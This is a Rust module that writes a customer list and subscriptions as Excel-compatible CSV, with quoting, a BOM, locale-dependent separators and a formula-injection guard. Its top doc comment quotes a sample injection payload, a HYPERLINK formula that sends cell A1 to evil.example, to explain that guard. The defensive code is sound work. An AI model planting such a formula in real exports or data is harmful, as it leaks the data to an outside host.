//! Excel-compatible CSV export of the customer list.
//!
//! The files follow the "Excel preset":
//!
//! - **RFC 4180**, quoting only where needed: a field is quoted when it holds a comma, a
//!   double quote, CR or LF, and a double quote inside it is doubled. Lines end in CRLF.
//! - **UTF-8 with a byte-order mark** ([`BOM`]). Without it Excel reads the file in the
//!   system's legacy code page and shows "SociÃ©tÃ©"; with it Excel and LibreOffice show
//!   accents and CJK correctly.
//! - **Formula-injection guard** (OWASP "CSV Injection"). A spreadsheet evaluates a cell that
//!   starts with `=`, `+`, `-` or `@` as a formula, and TAB, CR or LF in first place can smuggle
//!   one past a quick look; a customer named `=HYPERLINK("http://evil.example?"&A1, "Click")`
//!   would otherwise leak data when the export is opened. So a TEXT cell whose first character
//!   is one of `=` `+` `-` `@` TAB CR LF gets a leading apostrophe `'`, which spreadsheets take
//!   as "show as text". Numbers are never altered: `-5` stays a number.
//!
//! Three things can be changed per partner ([`ExportSettings`], set on the Settings page):
//! the separator (a semicolon for Excel in locales whose decimal mark is a comma, such as
//! French; "automatic" picks it when the UI is French), the BOM (off for tools that want
//! plain RFC 4180), and the language of the column headers (English by default, for tools
//! that import the files; or the UI's language). [`ExportSettings::for_language`] resolves
//! them for the UI's language into the [`CsvOptions`] every export function takes.
//!
//! ```
//! use clientele_domain::export::{write_csv, Cell, BOM};
//! let csv = write_csv(&["Name", "Seats"], [vec![Cell::Text("=1+1"), Cell::Number(-5)]]);
//! assert_eq!(String::from_utf8(csv).unwrap(), format!("{BOM}Name,Seats\r\n'=1+1,-5\r\n"));
//! ```

mod preferences;
mod writer;

pub use preferences::*;
pub use writer::{neutralize, write_csv, write_csv_as, Cell, BOM};

use crate::active::ActiveCounts;
use crate::columns::{Columns, ListColumn};
use crate::i18n::{tr, Language};
use crate::model::{Customer, Relationship, Reseller, ResellerId, Subscription};
use std::collections::HashMap;
use writer::Sheet;

/// How many columns the customer file can have.
const CUSTOMER_COLUMNS: usize = 8;

/// The customer file's column headers in `lang`.
pub fn customer_columns(lang: Language) -> [&'static str; CUSTOMER_COLUMNS] {
    [
        tr(lang, "export.customers.id"),
        tr(lang, "export.customers.company_name"),
        tr(lang, "export.customers.domain"),
        tr(lang, "export.customers.relationship"),
        tr(lang, "export.customers.reseller"),
        tr(lang, "export.customers.tags"),
        tr(lang, "export.customers.created"),
        tr(lang, "export.customers.subscriptions"),
    ]
}

/// Which of [`customer_columns`] a list showing `columns` writes: company name and domain
/// always, the others when shown; the subscription count only when it is known.
fn written(columns: &Columns, counted: bool) -> [bool; CUSTOMER_COLUMNS] {
    let shows = |c| columns.shows(c);
    [
        shows(ListColumn::CustomerId),
        true,
        true,
        shows(ListColumn::Relationship),
        shows(ListColumn::Reseller),
        shows(ListColumn::Tags),
        shows(ListColumn::Created),
        counted && shows(ListColumn::Subscriptions),
    ]
}

/// A relationship's label in `lang`: "Reseller", "Reseller, delegated admin" in English, as
/// [`Relationship::label`] says.
pub fn relationship_label(lang: Language, relationship: Relationship) -> &'static str {
    match relationship {
        Relationship::Reseller => tr(lang, "customers.relationship.reseller"),
        Relationship::ResellerWithDelegatedAdmin => {
            tr(lang, "customers.relationship.reseller_delegated_admin")
        }
    }
}

/// The customer list as CSV, rows in the order given. "Relationship" is
/// [`relationship_label`] in the headers' language; "Indirect reseller" is the reseller's
/// NAME (as [`reseller_name`](crate::model::reseller_name) gives it), empty for direct
/// customers. "Tags" holds the customer's tags in one cell, in the order they were added,
/// separated by ", " ([`TAG_SEPARATOR`](crate::tags::TAG_SEPARATOR)); no tag holds a comma,
/// so a tool can split the cell on commas and trim. "Created" is the time the customer was
/// added, in ISO 8601 UTC as stored (`2026-11-21T09:30:00Z`), whatever the language.
///
/// The records alone say nothing of subscriptions, so this file has no "Subscriptions
/// (active count)" column: [`customers_csv_of`] writes it when given the counts.
pub fn customers_csv<'a>(
    customers: impl IntoIterator<Item = &'a Customer>,
    resellers: &[Reseller],
    options: CsvOptions,
) -> Vec<u8> {
    customers_csv_of(customers, resellers, options, &Columns::all(), None)
}

/// [`customers_csv`] with only the columns a list showing `columns` writes (see the
/// "Columns" menu; the export settings' "All columns" passes [`Columns::all`]). With
/// `active`, the last column is "Subscriptions (active count)": each customer's count of
/// active subscriptions, as a number.
pub fn customers_csv_of<'a>(
    customers: impl IntoIterator<Item = &'a Customer>,
    resellers: &[Reseller],
    options: CsvOptions,
    columns: &Columns,
    active: Option<&ActiveCounts>,
) -> Vec<u8> {
    let keep = written(columns, active.is_some());
    // A map, not reseller_name's scan, so a partner with many resellers exports as fast.
    // The first entry wins for a repeated ID, as it does in reseller_name.
    let mut names: HashMap<&ResellerId, &str> = HashMap::with_capacity(resellers.len());
    for r in resellers {
        names.entry(&r.id).or_insert(r.name.as_str());
    }
    let customers = customers.into_iter();
    let mut sheet = Sheet::new(customers.size_hint().0, CUSTOMER_ROW_BYTES, options.format);
    sheet.row(kept(
        customer_columns(options.headers).map(Cell::Text),
        keep,
    ));
    for c in customers {
        let reseller = c
            .reseller_id
            .as_ref()
            .and_then(|id| names.get(id).copied())
            .unwrap_or("");
        let tags = crate::tags::joined(&c.tags);
        let cells = [
            Cell::Text(c.id.as_str()),
            Cell::Text(&c.company_name),
            Cell::Text(&c.primary_domain),
            Cell::Text(relationship_label(options.headers, c.relationship)),
            Cell::Text(reseller),
            Cell::Text(&tags),
            Cell::Text(&c.created_at),
            Cell::Number(active.map_or(0, |a| i64::from(a.of(&c.id)))),
        ];
        sheet.row(kept(cells, keep));
    }
    sheet.finish()
}

/// The cells whose column is kept.
fn kept<'c>(
    cells: [Cell<'c>; CUSTOMER_COLUMNS],
    keep: [bool; CUSTOMER_COLUMNS],
) -> impl Iterator<Item = Cell<'c>> {
    cells
        .into_iter()
        .zip(keep)
        .filter_map(|(cell, k)| k.then_some(cell))
}

/// A typical customer row: a 36-character ID, a name, a domain, a label and a reseller.
const CUSTOMER_ROW_BYTES: usize = 150;

/// "customers-2026-11-21.csv" for date "2026-11-21".
pub fn customers_file_name(date: &str) -> String {
    format!("customers-{date}.csv")
}

/// The subscription file's column headers in `lang`.
pub fn subscription_columns(lang: Language) -> [&'static str; 5] {
    [
        tr(lang, "export.subscriptions.id"),
        tr(lang, "export.subscriptions.offer"),
        tr(lang, "export.subscriptions.quantity"),
        tr(lang, "export.subscriptions.status"),
        tr(lang, "export.subscriptions.reseller"),
    ]
}

/// A customer's subscriptions as CSV: the five columns of the subscriptions table, the
/// quantity as a number and the reseller as its ID (empty when billed directly). The status
/// is written in English whatever the headers' language: it is data for tools.
pub fn subscriptions_csv<'a>(
    subscriptions: impl IntoIterator<Item = &'a Subscription>,
    options: CsvOptions,
) -> Vec<u8> {
    write_csv_as(
        options.format,
        &subscription_columns(options.headers),
        subscriptions.into_iter().map(|s| {
            vec![
                Cell::Text(s.id.as_str()),
                Cell::Text(&s.offer_name),
                Cell::Number(i64::from(s.quantity)),
                Cell::Text(s.status.label()),
                Cell::Text(s.reseller_id.as_ref().map_or("", |r| r.as_str())),
            ]
        }),
    )
}

/// "subscriptions-contoso-ltd-2026-11-21.csv": the company as a file-safe slug.
pub fn subscriptions_file_name(company: &str, date: &str) -> String {
    format!("subscriptions-{}-{date}.csv", slug(company))
}

/// Letters and digits of any script, lowercased and without accents; every other run of
/// characters becomes one hyphen. Safe on Windows, macOS and Linux, at most 60 characters;
/// "customer" when nothing is left.
pub fn slug(text: &str) -> String {
    let mut out = String::new();
    for c in crate::search::fold(text).chars() {
        if c.is_alphanumeric() {
            out.push(c);
        } else if !out.is_empty() && !out.ends_with('-') {
            out.push('-');
        }
        if out.chars().count() >= 60 {
            break;
        }
    }
    let out = out.trim_end_matches('-');
    if out.is_empty() {
        "customer".into()
    } else {
        out.into()
    }
}

#[cfg(test)]
mod tests;
